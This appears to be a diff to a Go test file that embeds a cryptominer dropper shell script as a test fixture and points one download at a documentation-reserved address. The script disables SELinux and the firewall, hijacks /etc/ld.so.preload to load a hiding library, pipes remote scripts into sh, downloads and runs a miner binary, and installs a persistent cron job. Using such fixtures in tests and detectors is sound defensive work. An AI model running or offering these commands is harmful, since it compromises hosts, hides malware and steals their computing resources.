@@ -115,6 +115,8 @@ func stripped(t *testing.T, src string) []byte {
 	return readFile(t, dst)
 }
 
+// dropper is script text only: nothing dials its addresses (192.0.2.0/24
+// is reserved for documentation).
 const dropper = `#!/bin/sh
 setenforce 0 2>/dev/null
 ufw disable
@@ -125,7 +127,7 @@ chattr -i /etc/ld.so.preload
 echo /usr/local/lib/libhide.so > /etc/ld.so.preload
 sysctl -w vm.nr_hugepages=1280
 curl -fsSL http://127.0.0.1/d.sh | sh
-wget -q -O /tmp/kdevtmpfsi http://127.0.0.1/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi &
+wget -q -O /tmp/kdevtmpfsi http://192.0.2.10/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi &
 (crontab -l; echo "* * * * * wget -q -O - http://127.0.0.1/d.sh | sh") | crontab -
 `
 
